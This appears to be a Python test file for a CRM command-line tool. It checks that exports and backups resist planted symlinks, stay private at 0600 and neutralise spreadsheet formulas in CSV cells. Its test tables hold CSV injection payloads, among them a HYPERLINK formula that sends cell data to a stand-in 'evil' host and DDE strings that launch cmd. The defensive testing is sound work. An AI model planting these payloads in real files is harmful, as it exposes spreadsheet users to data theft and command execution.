"""Files crm writes (issue 16, items 7, 8, 12 and 14): a symlink planted where crm writes never
leads it to overwrite someone's file; a killed run's partial files go at the next run; every file
of CRM data is 0600 whatever the umask; CSV cells are not spreadsheet formulas; a file that is not
a database, a place a backup cannot go and a newer schema each get one true line.

Each table below takes one more row for one more case."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
import sqlalchemy as sa

from crm_tui.services import files

sqlite_only = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
VICTIM_TEXT = "the victim's own file\n"


@pytest.fixture
def victim(tmp_path) -> Path:
    """A file of someone else's that an attacker would like crm to overwrite."""
    folder = tmp_path / "victim"
    folder.mkdir()
    path = folder / "thesis.txt"
    path.write_text(VICTIM_TEXT)
    return path


@pytest.fixture
def umask_022():
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture
def filled(crm):
    """Something in every kind a file is written of: a contact (with a formula for a name), a task."""
    crm.ok("contact", "add", "--first", "Ada", "--last", "Lovelace", "--email", "ada@x.org")
    crm.ok("task", "add", "Call Ada", "--due", "2026-12-01 10:00")
    return crm


def _dead_pid() -> int:
    done = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                          check=True)
    return int(done.stdout)


def _messy_import(folder: Path) -> Path:
    path = folder / "people.csv"
    path.write_text("First Name,Email\nAda,ada@x.org\n=HYPERLINK(\"http://evil\"),=bad@\n", encoding="utf-8")
    return path


# --- what writes a file: (id, the command's args given the output folder, the file it writes) ---------------

def _export(fmt: str, entity: str, name: str):
    return (f"export-{fmt}", lambda out: ("export", entity, "-f", fmt, "-o", str(out / name)), name)


WRITERS = [
    _export("csv", "contacts", "c.csv"),
    _export("json", "contacts", "c.json"),
    _export("vcf", "contacts", "c.vcf"),
    _export("ics", "tasks", "t.ics"),
    ("backup", lambda out: ("backup", str(out / "b.db")), "b.db"),
    ("import-report", lambda out: ("import", "contacts", str(_messy_import(out)), "--skip-invalid", "--report"),
     "people.import-report.csv"),
]


def _run(crm, db_url, writer_id, args):
    if writer_id == "backup" and not db_url.startswith("sqlite"):
        pytest.skip("crm backs up SQLite files (PostgreSQL: pg_dump)")
    return crm.ok(*args)


# --- item 7: symlinks planted at every name crm would write, and at the file itself ------------------------

PLANTED = [
    # the predictable name crm used before: ".NAME.partial-PID"
    ("old-partial-name", lambda name: [f".{name}.partial-{os.getpid()}"]),
    # what an attacker can predict of the new name: its prefix and our pid, with any ending
    ("new-partial-prefix", lambda name: [f"{files.PARTIAL_PREFIX}{os.getpid()}-{end}"
                                         for end in ("", "0", "partial", name, "aaaaaaaa")]),
    # the SQLite sidecars of either name
    ("partial-sidecars", lambda name: [f".{name}.partial-{os.getpid()}{s}" for s in ("-journal", "-wal")]),
]


@sqlite_only  # where the file goes does not depend on the database it is read from
@pytest.mark.parametrize(("writer_id", "args", "name"), WRITERS, ids=[w[0] for w in WRITERS])
@pytest.mark.parametrize(("plant_id", "planted"), PLANTED, ids=[p[0] for p in PLANTED])
def test_a_planted_symlink_is_never_followed(filled, db_url, tmp_path, victim, writer_id, args, name,
                                             plant_id, planted):
    out = tmp_path / "shared"
    out.mkdir()
    links = [out / link for link in planted(name)]
    for link in links:
        link.symlink_to(victim)
    _run(filled, db_url, writer_id, args(out))
    assert victim.read_text() == VICTIM_TEXT
    assert (out / name).is_file() and not (out / name).is_symlink()
    assert all(link.is_symlink() for link in links)  # left as they were, not followed, not removed


@sqlite_only
@pytest.mark.parametrize(("writer_id", "args", "name"), [w for w in WRITERS if w[0] != "backup"],
                         ids=[w[0] for w in WRITERS if w[0] != "backup"])
def test_a_symlink_at_the_target_is_replaced_not_followed(filled, db_url, tmp_path, victim, writer_id, args, name):
    out = tmp_path / "shared"
    out.mkdir()
    (out / name).symlink_to(victim)
    _run(filled, db_url, writer_id, args(out))
    assert victim.read_text() == VICTIM_TEXT
    assert (out / name).is_file() and not (out / name).is_symlink()


@sqlite_only
def test_backup_over_a_symlink_needs_force_and_replaces_the_link(filled, tmp_path, victim):
    (tmp_path / "b.db").symlink_to(victim)
    assert "exists" in filled.fails("backup", str(tmp_path / "b.db"), code=2).stderr
    filled.ok("backup", str(tmp_path / "b.db"), "--force")
    assert victim.read_text() == VICTIM_TEXT and not (tmp_path / "b.db").is_symlink()


SWEEPERS = [w for w in WRITERS if w[0] in ("export-csv", "backup", "import-report")]


# --- item 7: a killed run's partial files: (id, make it, removed by the next run?) --------------------------

def _aged(path: Path, seconds: float = 3600) -> Path:
    then = time.time() - seconds
    os.utime(path, (then, then), follow_symlinks=False)
    return path


def _file(path: Path, *, age: float = 3600, uid: int | None = None) -> Path:
    path.write_bytes(b"x" * 1024)
    if uid is not None:
        os.chown(path, uid, -1)
    return _aged(path, age)


def _link(path: Path, target: Path) -> Path:
    path.symlink_to(target)
    return _aged(path)


LEFTOVERS = [
    ("killed-run", lambda d, v: _file(d / f"{files.PARTIAL_PREFIX}{_dead_pid()}-k2j3h4"), True),
    ("killed-run-old-name", lambda d, v: _file(d / f".c.csv.partial-{_dead_pid()}"), True),
    ("killed-run-old-name-other-file", lambda d, v: _file(d / f".big.db.partial-{_dead_pid()}"), True),
    ("still-being-written", lambda d, v: _file(d / f"{files.PARTIAL_PREFIX}{_dead_pid()}-abc", age=0), False),
    ("its-process-lives", lambda d, v: _file(d / f"{files.PARTIAL_PREFIX}{os.getppid()}-abc"), False),
    ("a-symlink", lambda d, v: _link(d / f"{files.PARTIAL_PREFIX}{_dead_pid()}-abc", v), False),
    ("someone-elses", lambda d, v: _file(d / f"{files.PARTIAL_PREFIX}{_dead_pid()}-abc", uid=os.getuid() + 1),
     False),
    ("not-a-partial", lambda d, v: _file(d / f"notes.partial-{_dead_pid()}.txt"), False),
]


@sqlite_only
@pytest.mark.parametrize(("writer_id", "args", "name"), SWEEPERS, ids=[w[0] for w in SWEEPERS])
@pytest.mark.parametrize(("case", "make", "removed"), LEFTOVERS, ids=[c[0] for c in LEFTOVERS])
def test_leftover_partials_go_at_the_next_run(filled, db_url, tmp_path, victim, writer_id, args, name,
                                              case, make, removed):
    if case == "someone-elses" and os.getuid() != 0:
        pytest.skip("making another user's file needs root")
    out = tmp_path / "shared"
    out.mkdir()
    leftover = make(out, victim)
    _run(filled, db_url, writer_id, args(out))
    assert (leftover.exists() or leftover.is_symlink()) is not removed
    assert victim.read_text() == VICTIM_TEXT
    # and the run itself leaves nothing behind but its file
    assert {p.name for p in out.iterdir()} - {leftover.name, "people.csv"} == {name}


KILLED_WRITE = """
import os, signal, sys
from crm_tui.services import files
with files.partial_file(sys.argv[1], what="the export") as (fd, path):
    os.write(fd, b"x" * 1_000_000)
    print(path, flush=True)
    os.kill(os.getpid(), signal.SIGKILL)
"""


@pytest.mark.slow
@sqlite_only
@pytest.mark.parametrize(("writer_id", "args", "name"), SWEEPERS, ids=[w[0] for w in SWEEPERS])
def test_a_write_killed_with_sigkill_is_swept_by_the_next_run(filled, tmp_path, monkeypatch, writer_id, args, name):
    out = tmp_path / "shared"
    out.mkdir()
    killed = subprocess.run([sys.executable, "-c", KILLED_WRITE, str(out / name)], capture_output=True, text=True)
    assert killed.returncode == -9
    leftover = Path(killed.stdout.strip())
    assert leftover.parent == out and leftover.stat().st_size == 1_000_000
    monkeypatch.setattr(files, "STALE_AFTER_S", 0)  # rather than wait a minute
    _run(filled, "sqlite", writer_id, args(out))
    assert not leftover.exists()


def test_a_partial_swapped_for_a_symlink_is_noticed(tmp_path, victim):
    """The backup opens its partial file by name (SQLite needs a path): it checks first that the
    name still leads to the file mkstemp made."""
    with pytest.raises(RuntimeError):
        with files.partial_file(tmp_path / "b.db") as (fd, partial):
            assert files.same_file(fd, partial)
            partial.unlink()
            partial.symlink_to(victim)
            assert not files.same_file(fd, partial)
            raise RuntimeError("refused")
    assert victim.read_text() == VICTIM_TEXT and not (tmp_path / "b.db").exists()


def test_a_failed_write_leaves_no_partial(tmp_path):
    with pytest.raises(RuntimeError):
        with files.private_text_file(tmp_path / "x.csv") as fh:
            fh.write("half")
            raise RuntimeError("killed half-way")
    assert list(tmp_path.iterdir()) == []


# --- item 8: every file of CRM data is 0600, whatever the umask ---------------------------------------------

@pytest.mark.parametrize(("writer_id", "args", "name"), WRITERS, ids=[w[0] for w in WRITERS])
def test_files_of_crm_data_are_private_under_umask_022(filled, db_url, tmp_path, umask_022, writer_id, args,
                                                       name):
    _run(filled, db_url, writer_id, args(tmp_path))
    assert (tmp_path / name).stat().st_mode & 0o777 == 0o600


@sqlite_only
@pytest.mark.parametrize(("writer_id", "args", "name"), WRITERS, ids=[w[0] for w in WRITERS])
def test_an_existing_readable_file_becomes_private(filled, db_url, tmp_path, umask_022, writer_id, args, name):
    (tmp_path / name).write_text("old")
    (tmp_path / name).chmod(0o644)
    extra = ("--force",) if writer_id == "backup" else ()
    _run(filled, db_url, writer_id, (*args(tmp_path), *extra))
    assert (tmp_path / name).stat().st_mode & 0o777 == 0o600


# --- item 8: formulas in CSV cells: (stored value, the cell by default) -------------------------------------

FORMULAS = [
    ("=HYPERLINK(\"http://evil/?\"&A1)", "'=HYPERLINK(\"http://evil/?\"&A1)"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+SUM(A1:A9)", "'-2+3+SUM(A1:A9)"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("=1+2", "'=1+2"),
    ("-12.50", "-12.50"),  # a negative number stays a number
    ("+14155552671", "+14155552671"),  # and so does a phone number
    ("+1 (415) 555-0100", "+1 (415) 555-0100"),
    ("plain = text", "plain = text"),
    ("O'Brien", "O'Brien"),
]


def _cells(text: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return rows[0]


@sqlite_only
@pytest.mark.parametrize(("value", "safe"), FORMULAS, ids=[f"v{i}" for i in range(len(FORMULAS))])
def test_csv_cells_are_not_formulas_unless_raw_is_asked(crm, value, safe):
    crm.ok("contact", "add", "--first", "Ada", "--title", value, "--field", f"note={value}")
    default = _cells(crm.ok("export", "contacts").stdout)
    assert (default["title"], default["custom.note"]) == (safe, safe)
    raw = _cells(crm.ok("export", "contacts", "--raw-formulas").stdout)
    assert (raw["title"], raw["custom.note"]) == (value, value)


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_cells_starting_with_tab_or_cr_are_quoted(start):
    assert files.csv_safe(f"{start}=1+2") == f"'{start}=1+2"


def test_a_negative_amount_stays_a_number():
    from crm_tui.services import export

    assert files.csv_safe(export.amount_text(-1250, "USD")) == "-12.50"


def test_formulas_are_neutralised_on_every_database(crm):
    for i, (value, _safe) in enumerate(FORMULAS):
        crm.ok("contact", "add", "--first", f"N{i}", "--title", value)
    titles = [row["title"] for row in csv.DictReader(io.StringIO(crm.ok("export", "contacts").stdout))]
    assert titles == [safe for _value, safe in FORMULAS]


def test_the_import_report_does_not_echo_formulas(filled, tmp_path):
    filled.ok("import", "contacts", str(_messy_import(tmp_path)), "--skip-invalid", "--report")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "people.import-report.csv").read_text(encoding="utf-8"))))
    assert rows and all(not r["value"].startswith(files.FORMULA_START) for r in rows)
    assert "'=bad@" in {r["value"] for r in rows}


# --- item 12: one line, not "internal error" ------------------------------------------------------------------

NOT_A_DATABASE = [
    ("text", b"name,email\nada,ada@x.org\n", "is not a crm-tui database"),
    ("binary", bytes(range(256)) * 16, "is not a crm-tui database"),
    ("another-sqlite-app", None, "is not a crm-tui database (it holds other tables: notes)"),
]


@pytest.mark.parametrize("command", [("contact", "list"), ("db", "current"), ("db", "upgrade"), ("init",)])
@pytest.mark.parametrize(("kind", "content", "message"), NOT_A_DATABASE, ids=[c[0] for c in NOT_A_DATABASE])
def test_a_file_that_is_not_a_crm_database_gets_one_line(tmp_path, kind, content, message, command):
    from tests.cli.conftest import Crm

    path = tmp_path / "notadb.txt"
    if content is None:
        engine = sa.create_engine(f"sqlite:///{path}")
        with engine.begin() as conn:
            conn.execute(sa.text("CREATE TABLE notes (body TEXT)"))
        engine.dispose()
    else:
        path.write_bytes(content)
    before = path.read_bytes()
    result = Crm(f"sqlite:///{path}").fails(*command)
    assert message in result.stderr and str(path) in result.stderr
    assert path.read_bytes() == before  # not even switched to WAL


UNWRITABLE = [
    ("/proc/x.db", "No such file or directory"),
    ("/proc/self/x.db", "cannot write the backup to /proc/self/x.db"),
    ("/dev/null/x.db", "is not a directory"),
    ("{tmp}/a-file/x.db", "is not a directory"),
    ("{tmp}/" + "n" * 300 + ".db", "name too long"),
]


@sqlite_only
@pytest.mark.parametrize(("path", "message"), UNWRITABLE, ids=[f"p{i}" for i in range(len(UNWRITABLE))])
def test_backup_to_a_place_it_cannot_go_gets_one_line(crm, tmp_path, path, message):
    (tmp_path / "a-file").write_text("x")
    result = crm.fails("backup", path.format(tmp=tmp_path), code=6)
    assert "cannot write the backup to" in result.stderr and message in result.stderr


@sqlite_only
@pytest.mark.parametrize(("path", "message"), UNWRITABLE[:2], ids=["p0", "p1"])
def test_export_to_a_place_it_cannot_go_gets_one_line(crm, path, message):
    result = crm.fails("export", "contacts", "-o", path.replace(".db", ".csv"), code=6)
    assert "cannot write the export to" in result.stderr


# --- item 14: a schema newer than the code ------------------------------------------------------------------

def test_db_current_on_a_newer_database_says_to_upgrade_crm_tui(crm, db_url):
    crm.ok("contact", "list")
    engine = sa.create_engine(db_url)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE alembic_version SET version_num = 'f00dfeed'"))
    engine.dispose()
    out = crm.ok("db", "current").stdout
    assert "newer schema than this crm-tui knows: upgrade crm-tui" in out
    assert "crm db upgrade" not in out
    assert crm.json("db", "current")["state"] == "newer"
    assert "upgrade crm-tui" in crm.fails("db", "upgrade").stderr


@sqlite_only
def test_report_csv_cells_are_not_formulas_unless_raw_is_asked(crm):
    """A report's text cells (here a lost reason typed as a formula) get the export's leading '."""
    crm.ok("deal", "add", "Big", "--amount", "100")
    crm.ok("deal", "lost", "1", "--reason", "=HYPERLINK(\"http://evil/?\"&A1)")
    default = list(csv.DictReader(io.StringIO(crm.ok("report", "lost-reasons", "--period", "this-year",
                                                       "-f", "csv").stdout)))
    assert [(r["reason"], r["amount"]) for r in default] == [("'=HYPERLINK(\"http://evil/?\"&A1)", "100.00")]
    raw = list(csv.DictReader(io.StringIO(crm.ok("report", "lost-reasons", "--period", "this-year", "-f", "csv",
                                                   "--raw-formulas").stdout)))
    assert [r["reason"] for r in raw] == ["=HYPERLINK(\"http://evil/?\"&A1)"]
